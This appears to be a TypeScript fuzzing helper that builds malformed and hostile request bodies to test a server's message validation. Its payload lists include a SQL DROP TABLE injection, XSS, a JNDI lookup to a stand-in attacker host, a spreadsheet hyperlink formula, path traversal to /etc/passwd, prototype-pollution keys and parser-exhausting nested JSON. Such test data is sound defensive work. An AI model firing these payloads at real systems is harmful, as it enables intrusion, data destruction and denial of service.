import fc from 'fast-check';

/** Values that no field of ours takes, and that have broken somebody's server before. */
const nasties: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  -0.5,
  2 ** 53,
  '',
  ' ',
  '\u0000',
  '\u202e\ufeff',
  '=HYPERLINK("http://evil.example")',
  "'; DROP TABLE calls; --",
  '<script>alert(1)</script>',
  `\u0024{jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  'turn:user:secret@evil.example:3478?transport=udp',
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00.000Z',
  '2026-02-30T00:00:00.000Z',
  '2026-03-04 10:00:00',
  'x'.repeat(10_000),
  [],
  [[[[[]]]]],
  {},
  { toString: 'x', valueOf: 1, length: -1 },
  { script: { source: 'ctx._source.clear()' } },
];

type Json = unknown;
const isObject = (value: Json): value is Record<string, Json> => typeof value === 'object' && value !== null;

/** The paths of everything in a message. */
function pathsOf(value: Json, path: readonly string[] = []): readonly (readonly string[])[] {
  const inner = isObject(value)
    ? Object.entries(value).flatMap(([key, one]) => pathsOf(one, [...path, key]))
    : [];
  return [path, ...inner];
}

function replace(value: Json, [key, ...rest]: readonly string[], by: Json): Json {
  if (key === undefined) return by;
  if (!isObject(value)) return value;
  const copy: Record<string, Json> = Array.isArray(value) ? (value.slice() as never) : { ...value };
  copy[key] = replace(copy[key], rest, by);
  return copy;
}

/** Texts that are no message whatever they hold. */
const noMessages = [
  '',
  ' ',
  'null',
  '[]',
  '{}',
  '"x"',
  '1e999',
  'NaN',
  'undefined',
  '{',
  '{"version":1',
  '\ufeff{}',
  '{"__proto__":{"version":1}}',
  '{"constructor":{"prototype":{"version":1}}}',
  '['.repeat(120_000),
  `${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`,
  `"${'a'.repeat(250_000)}"`,
  `{"${'k'.repeat(200_000)}":1}`,
  `[${'1,'.repeat(100_000)}1]`,
  `{"a":${'9'.repeat(100_000)}}`,
];

/**
 * Bodies of which hardly any is a message: a good one with one thing replaced, JSON of any kind, text of any kind.
 *
 * @param good a message that is accepted
 */
export function hostileBody(good: object): fc.Arbitrary<string> {
  const anything = fc.oneof(fc.constantFrom(...nasties), fc.jsonValue({ maxDepth: 3 }));
  const changed = fc
    .tuple(fc.constantFrom(...pathsOf(good)), anything)
    .map(([path, by]) => JSON.stringify(replace(good, path, by)) ?? '');
  const text = JSON.stringify(good);
  const cut = fc.nat(text.length - 1).map((length) => text.slice(0, length));
  return fc.oneof(
    { arbitrary: changed, weight: 12 },
    { arbitrary: fc.json(), weight: 3 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 200 }), weight: 2 },
    { arbitrary: cut, weight: 2 },
    { arbitrary: fc.constantFrom(...noMessages.slice(0, 14)), weight: 1 },
  );
}

/** The large ones, which need to be tried but once. */
export const largeBodies: readonly string[] = noMessages.slice(14);
